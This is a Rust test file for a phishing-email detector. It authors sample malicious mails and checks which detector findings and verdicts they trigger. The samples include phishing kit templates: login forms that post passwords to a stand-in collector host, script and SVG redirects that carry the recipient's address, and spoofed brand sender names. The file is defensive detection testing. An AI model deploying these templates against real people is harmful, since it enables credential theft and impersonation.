//! HTML markup tricks and the sender and subject signals of bulk phishing,
//! on mails authored here (no sample of any corpus).

mod common;

use mozu_detect::{Config, Detectors};
use mozu_model::{MessageRecord, VerdictLevel};

fn html_mail(from: &str, to: &str, subject: &str, html: &str) -> Vec<u8> {
    format!(
        "From: {from}\r\nTo: {to}\r\nSubject: {subject}\r\nDate: Mon, 4 Mar 2024 10:00:00 +0000\r\n\
         Message-ID: <a1@mail.example.net>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    )
    .into_bytes()
}

/// A text/plain mail from an accounts department, to carry attachments.
fn plain_mail(subject: &str, body: &str) -> String {
    format!(
        "From: Accounts <billing@mail.example.net>\r\nTo: user@example.jp\r\nSubject: {subject}\r\n\
         Date: Mon, 4 Mar 2024 10:00:00 +0000\r\nMessage-ID: <a2@mail.example.net>\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
    )
}

fn ids(rec: &MessageRecord) -> Vec<&str> {
    rec.findings.iter().map(|f| f.id.as_str()).collect()
}

#[test]
fn html_tricks_are_findings() {
    let det = Detectors::new(&Config::default()).unwrap();
    let filler = "the quick brown fox jumps over the lazy dog ".repeat(30);
    let html = format!(
        "<html><body><p>Your mailbox will be closed. Sign in below.</p>\
         <div style=\"display:none\">{filler}</div>\
         <div style=\"background:#ffffff\"><span style=\"color:#fefefe\">invoice payment receipt account verify</span></div>\
         <form action=\"https://collector.example.org/post.php\"><input name=u><input type=\"password\" name=p></form>\
         <script>location.href='https://collector.example.org/'</script></body></html>"
    );
    let rec = common::scan(
        &html_mail(
            "IT Help Desk <it@mail.example.net>",
            "user@example.jp",
            "Mailbox notice",
            &html,
        ),
        "trick.eml",
        &det,
    );
    let found = ids(&rec);
    let cases = [
        "html.hidden_text",
        "html.same_colour_text",
        "html.password_form",
        "html.script",
        "html.html_only",
        "spoof.generic_role_name",
    ];
    let mut ran = 0;
    for id in cases {
        assert!(found.contains(&id), "{id} missing from {found:?}");
        ran += 1;
    }
    assert!(ran > 0);
    let html_summary = rec.html.as_ref().unwrap();
    assert_eq!(html_summary.password_inputs, 1);
    assert_eq!(
        html_summary.form_actions,
        vec!["https://collector.example.org/post.php".to_string()]
    );
    assert_eq!(rec.verdict.unwrap().level, VerdictLevel::Malicious);
}

#[test]
fn a_newsletter_with_a_preheader_stays_clean() {
    let det = Detectors::new(&Config::default()).unwrap();
    let html = "<html><body><div style=\"display:none;max-height:0;overflow:hidden\">This week: spring recipes</div>\
        <table style=\"background:#f4f4f4\"><tr><td style=\"color:#333333\"><h1>Spring recipes</h1>\
        <p>Three dishes with asparagus from the market, ready in twenty minutes.</p>\
        <a href=\"https://www.cooking.example.com/spring\">Read more</a></td></tr></table>\
        <p><a href=\"https://www.cooking.example.com/unsubscribe\">Unsubscribe</a></p></body></html>";
    let rec = common::scan(
        &html_mail(
            "Cooking Weekly <news@cooking.example.com>",
            "user@example.jp",
            "Spring recipes",
            html,
        ),
        "news.eml",
        &det,
    );
    let found = ids(&rec);
    assert!(
        !found
            .iter()
            .any(|id| id.starts_with("html.") && *id != "html.html_only"),
        "{found:?}"
    );
    assert_eq!(rec.verdict.unwrap().level, VerdictLevel::Clean, "{found:?}");
}

#[test]
fn bulk_sender_signals() {
    let det = Detectors::new(&Config::default()).unwrap();
    let cases: [(&str, &str, &str, &str); 6] = [
        (
            "Omaha Grills <info@omahagrillsqzx.com>",
            "Your order",
            "<p>Thanks</p>",
            "lookalike.sender_name_padded",
        ),
        (
            "Shop <offers@shop.example.com>",
            "[username], your gift is waiting",
            "<p>Hello</p>",
            "header.template_placeholder",
        ),
        (
            "Shop <offers@shop.example.com>",
            "Your gift",
            "<a href=\"https://land.example.org/?e=user%40example.jp\">open</a> more text here for the body",
            "link.recipient_in_url",
        ),
        (
            "C o i n b a s e <noreply@mailer.example.net>",
            "Transfer sent",
            "<p>You sent 0.5 ETH</p>",
            "spoof.display_name_org",
        ),
        (
            "Gift Shop <offers@shop.example.com>",
            "Holiday gifts",
            "<p>Gifts for everyone</p><a href=\"mailto:replyto@collector.example.org\">Unsubscribe</a>",
            "link.unsubscribe_elsewhere",
        ),
        (
            "🅐🅟🅟🅛🅔 Support <noreply@mailer.example.net>",
            "Storage full",
            "<p>Your cloud is full</p>",
            "obfuscation.math_letters",
        ),
    ];
    let mut ran = 0;
    for (from, subject, html, want) in cases {
        let rec = common::scan(&html_mail(from, "user@example.jp", subject, html), "bulk.eml", &det);
        assert!(ids(&rec).contains(&want), "{want} missing for {from}: {:?}", ids(&rec));
        ran += 1;
    }
    assert!(ran > 0);
    // Honest names: the brand's own domain, a name with an honest ending.
    for from in [
        "Omaha Grills <info@omahagrills.com>",
        "Omaha Grills <news@omahagrillsshop.com>",
    ] {
        let rec = common::scan(
            &html_mail(from, "user@example.jp", "News", "<p>News</p>"),
            "ok.eml",
            &det,
        );
        assert!(!ids(&rec).contains(&"lookalike.sender_name_padded"), "{from}");
    }
}

#[test]
fn html_attachment_login_page() {
    let det = Detectors::new(&Config::default()).unwrap();
    let eml = &plain_mail("Remittance advice", "Please see the attached remittance advice.");
    let page = b"<html><body><h3>Sign in to view the document</h3>\
        <form action=\"https://collector.example.org/p.php\" method=post><input name=email>\
        <input type=password name=pass><button>View</button></form>\
        <script>document.forms[0].email.value=atob('dXNlckBleGFtcGxlLmpw')</script></body></html>"
        .to_vec();
    let raw = common::with_attachments(eml, &[("Remittance_0412.html", "text/html", page)]);
    let rec = common::scan(&raw, "html-attachment.eml", &det);
    assert_eq!(rec.html_attachments.len(), 1);
    assert_eq!(rec.html_attachments[0].name, "Remittance_0412.html");
    let found = ids(&rec);
    let mut ran = 0;
    for id in ["attach.html", "html.attachment_login_form", "html.attachment_script"] {
        assert!(found.contains(&id), "{id} missing from {found:?}");
        ran += 1;
    }
    assert!(ran > 0);
    assert_eq!(rec.verdict.unwrap().level, VerdictLevel::Malicious, "{found:?}");
}

#[test]
fn svg_attachments_are_read_as_pages() {
    let det = Detectors::new(&Config::default()).unwrap();
    let eml = &plain_mail("Voice message", "You have a new voice message.");
    let redirect = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">\
        <script><![CDATA[window.location.href='https://collector.example.org/vm?e='+'user@example.jp';]]></script></svg>"
        .to_vec();
    let login = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"400\" height=\"300\">\
        <form action=\"https://collector.example.org/p.php\" method=\"post\"><input name=\"email\">\
        <input type=\"password\" name=\"pass\"></form></foreignObject></svg>"
        .to_vec();
    let logo = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><circle cx=\"5\" cy=\"5\" r=\"4\"/></svg>".to_vec();
    let cases: [(&str, Vec<u8>, &[&str]); 3] = [
        ("VM_0412.svg", redirect, &["attach.html", "html.attachment_script"]),
        ("Statement.svg", login, &["attach.html", "html.attachment_login_form"]),
        ("logo.svg", logo, &["attach.html"]),
    ];
    let mut ran = 0;
    for (name, svg, expected) in cases {
        let raw = common::with_attachments(eml, &[(name, "image/svg+xml", svg)]);
        let rec = common::scan(&raw, "svg.eml", &det);
        let found = ids(&rec);
        for id in expected {
            assert!(found.contains(id), "{name}: {id} missing from {found:?}");
        }
        let active = expected.len() > 1;
        assert_eq!(rec.html_attachments.len(), usize::from(active), "{name}");
        if active {
            assert!(
                rec.urls
                    .iter()
                    .any(|u| u.host.as_deref() == Some("collector.example.org")),
                "{name}: the page's URL is an indicator"
            );
        } else {
            assert!(
                !found.iter().any(|f| f.starts_with("html.attachment")),
                "{name}: {found:?}"
            );
        }
        ran += 1;
    }
    assert_eq!(ran, 3);
}
